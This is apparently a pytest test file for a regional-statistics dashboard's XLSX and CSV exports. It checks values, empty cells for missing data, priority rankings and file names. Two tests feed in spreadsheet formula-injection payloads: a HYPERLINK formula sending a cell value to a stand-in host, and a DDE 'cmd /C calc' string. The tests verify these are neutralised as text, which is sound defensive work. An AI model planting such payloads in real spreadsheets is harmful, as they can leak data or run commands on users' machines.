"""The XLSX workbook: the values the screen shows, empty cells for no data, no formula from data; file names."""

from __future__ import annotations

import io
import math
from dataclasses import replace
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from ucj_dash.analysis import priority
from ucj_dash.analysis.settings import Settings
from ucj_dash.datasets.dataset import Dataset
from ucj_dash.exports import cells, workbook
from ucj_dash.exports.filenames import export_filename, slug
from ucj_dash.geography.regions import Registry
from ucj_dash.views import mapview

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


@pytest.fixture(scope="module")
def settings():
    return Settings()


def _load(data: bytes):
    return load_workbook(io.BytesIO(data))


def _sheet_rows(ws) -> tuple[list[str], list[tuple]]:
    rows = list(ws.iter_rows(min_row=workbook.HEADER_ROW, values_only=True))
    return list(rows[0]), rows[1:]


def _same(cell, value) -> bool:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return cell is None
    if isinstance(value, (bool,)) or type(value).__name__ == "bool_":
        return cell is bool(value)
    if isinstance(value, float) or hasattr(value, "dtype"):
        return cell is not None and not isinstance(cell, str) and math.isclose(float(cell), float(value), rel_tol=1e-12, abs_tol=1e-9)
    return cell == value


def test_regions_sheet_equals_the_children_table_on_screen(demo_dataset, registry, settings):
    period = demo_dataset.latest_period
    data = workbook.workbook_xlsx(demo_dataset, registry, "35.07", period, settings, "id")
    wb = _load(data)
    assert wb.sheetnames == ["Wilayah", "Prioritas", "Definisi & sumber"]
    headers, rows = _sheet_rows(wb["Wilayah"])
    table = mapview.children_table(demo_dataset, registry, "35.07", period, settings)
    own = mapview.region_row(demo_dataset, "35.07", period, settings)
    assert len(rows) == len(table) + 1
    cols = workbook.region_columns("id")
    assert headers[4:] == [h for _, h, _ in cols]
    assert "Cakupan UCJ (%)" in headers and any(h.endswith("(orang)") for h in headers)
    # first row: the region itself
    assert rows[0][:3] == ("Wilayah ini", "35.07", "Kabupaten Malang")
    for j, (col, _, _) in enumerate(cols, start=4):
        assert _same(rows[0][j], own[col]), col
    # then every child, in the table's order, with the same values
    for row, (_, expected) in zip(rows[1:], table.iterrows()):
        assert row[1] == expected["code"] and row[2] == expected["name"]
        for j, (col, _, _) in enumerate(cols, start=4):
            assert _same(row[j], expected[col]), (expected["code"], col, row[j], expected[col])


def test_no_data_is_an_empty_cell_not_zero(demo_dataset, registry, settings):
    """Kecamatan without data (dropped from the figures) leave their cells empty; counts never turn into 0."""
    period = demo_dataset.latest_period
    figures = demo_dataset.figures
    keep = (figures["period"] == period) & figures["region_code"].str.startswith("35.07.")
    keep &= ~figures["region_code"].str.startswith("35.07.01.")
    ds = Dataset(demo_dataset.meta, figures[keep].reset_index(drop=True))
    wb = _load(workbook.workbook_xlsx(ds, registry, "35.07", period, settings, "en"))
    headers, rows = _sheet_rows(wb["Regions"])
    missing = next(r for r in rows if r[1] == "35.07.01")
    values = dict(zip(headers, missing))
    assert values["UCJ coverage (%)"] is None
    assert values["Employed workers (UCJ denominator) (persons)"] is None
    assert values["Target met"] is None
    assert all(v is None for h, v in values.items() if h.endswith("(persons)"))
    assert not any(v == 0 for h, v in values.items() if h.endswith("(persons)") or h.endswith("(%)"))
    present = next(r for r in rows if r[1] == "35.07.02")
    assert dict(zip(headers, present))["UCJ coverage (%)"] > 0
    # the ranking puts it last, with the reason saying what is missing
    _, ranked = _sheet_rows(wb["Priority"])
    assert ranked[-1][1] == "35.07.01" and "no extreme-poverty data" in ranked[-1][5]


def test_priority_sheet_is_the_ranking_with_reasons(demo_dataset, registry, settings):
    period = demo_dataset.latest_period
    rule = priority.Rule(weight_gap=1.0)
    wb = _load(workbook.workbook_xlsx(demo_dataset, registry, "35", period, settings, "id", rule))
    headers, rows = _sheet_rows(wb["Prioritas"])
    assert headers[:6] == ["Peringkat", "Kode", "Wilayah", "Kelompok", "Skor (orang, berbobot)", "Alasan peringkat"]
    table = mapview.children_table(demo_dataset, registry, "35", period, settings)
    ranked = priority.rank(table, settings, rule)
    assert [r[1] for r in rows] == ranked["code"].tolist()
    assert [r[0] for r in rows] == list(range(1, len(ranked) + 1))
    first = ranked.iloc[0]
    assert rows[0][5] == priority.reason(first, settings, "id")
    assert math.isclose(rows[0][4], first["score"])
    assert "1,0 × kekurangan ke target" in wb["Prioritas"].cell(row=3, column=1).value


def test_definitions_sheet_lists_every_setting_with_source_and_the_dataset(demo_dataset, registry, settings):
    period = demo_dataset.latest_period
    wb = _load(workbook.workbook_xlsx(demo_dataset, registry, "ID", period, settings, "id"))
    ws = wb["Definisi & sumber"]
    values = [row for row in ws.iter_rows(values_only=True)]
    flat = [v for row in values for v in row if v is not None]
    for item in settings.items():
        row = next(r for r in values if r[0] == item.key)
        assert row[1] == pytest.approx(item.value) and row[2] == item.unit and row[3] == item.source and row[4] == item.as_of
    assert "Peserta aktif ÷ penduduk bekerja × 100." in flat
    assert demo_dataset.meta.source in flat and demo_dataset.meta.name in flat
    assert any("Data simulasi / simulated data" in str(v) for v in flat)
    assert any("Kepmendagri No 300.2.2-2430 Tahun 2025" in str(v) for v in flat)
    # every sheet says the data is simulated
    for sheet in wb.worksheets:
        assert "DATA SIMULASI" in sheet.cell(row=2, column=1).value


def test_formula_like_names_are_stored_as_text(demo_dataset, registry, settings):
    """A dataset and a region named like a formula come back as text cells, never formulas."""
    period = demo_dataset.latest_period
    table = registry.table.copy()
    child = registry.children("35.07")[0]
    table.loc[child, "name"] = EVIL
    table.loc["35.07", "name"] = "@evil"
    evil_registry = Registry(table)
    ds = Dataset(replace(demo_dataset.meta, name=EVIL, source="+cmd|' /C calc'!A0"), None, rolled=demo_dataset.rolled)
    wb = _load(workbook.workbook_xlsx(ds, evil_registry, "35.07", period, settings, "id"))
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + EVIL in texts and "'@evil" in texts
    assert not any(v.startswith(cells.FORMULA_START) for v in texts)


def test_village_workbook_has_the_village_and_says_there_is_nothing_to_rank(demo_dataset, registry, settings):
    period = demo_dataset.latest_period
    village = registry.children("35.07.01")[0]
    wb = _load(workbook.workbook_xlsx(demo_dataset, registry, village, period, settings, "en"))
    _, rows = _sheet_rows(wb["Regions"])
    assert len(rows) == 1 and rows[0][1] == village
    assert "no regions below" in wb["Priority"].cell(row=workbook.HEADER_ROW + 1, column=1).value


def test_export_filename():
    day = date(2025, 6, 30)
    assert export_filename("ID", "Indonesia", "2024-12", "pdf", True, day) == "ucj_indonesia_2024-12_simulasi_2025-06-30.pdf"
    assert export_filename("35.07", "Kabupaten Malang", "2024-12", "xlsx", False, day) == "ucj_kabupaten-malang_3507_2024-12_2025-06-30.xlsx"
    name = export_filename("74.72", "Kota Bau-Bau/../é", "2024-12", "PNG", True, day)
    assert name == "ucj_kota-bau-bau-e_7472_2024-12_simulasi_2025-06-30.png"
    assert slug('=HYPERLINK("x")') == "hyperlink-x"
    assert export_filename("35.07", "///", "2024/12", "pdf", False, day) == "ucj_3507_202412_2025-06-30.pdf"


def test_priority_xlsx_matches_the_priority_list(demo_dataset, registry, settings):
    from ucj_dash.geography.regions import Level

    data = workbook.priority_xlsx(demo_dataset, registry, "53", Level.DISTRICT, demo_dataset.latest_period, settings, "id")
    wb = _load(data)
    headers, rows = _sheet_rows(wb.worksheets[0])
    table = mapview.children_table(demo_dataset, registry, "53", demo_dataset.latest_period, settings, Level.DISTRICT)
    ranked = priority.rank(table, settings)
    codes = [r[headers.index("Kode")] for r in rows]
    assert codes == ranked["code"].tolist() and len(codes) == 315
    assert rows[0][headers.index("Alasan peringkat")] == priority.reason(ranked.iloc[0], settings)
    assert "kecamatan di Nusa Tenggara Timur" in wb.worksheets[0].cell(row=1, column=1).value


def test_csv_neutralises_formula_text_and_keeps_no_data_empty(demo_dataset):
    table = pd.DataFrame({"Wilayah": [EVIL, "Kupang", "-1+2"], "Cakupan (%)": [10.5, float("nan"), 3.0]})
    text = workbook.csv_bytes(table, demo_dataset, "2024-12", "id").decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK")
    assert lines[2].startswith("Kupang;;")  # no data stays empty, not 0
    assert lines[3].startswith("'-1+2;3,0")  # ";" and a decimal comma in Indonesian (cells.write_csv)
    assert all("Data simulasi / simulated data" in line for line in lines[1:])
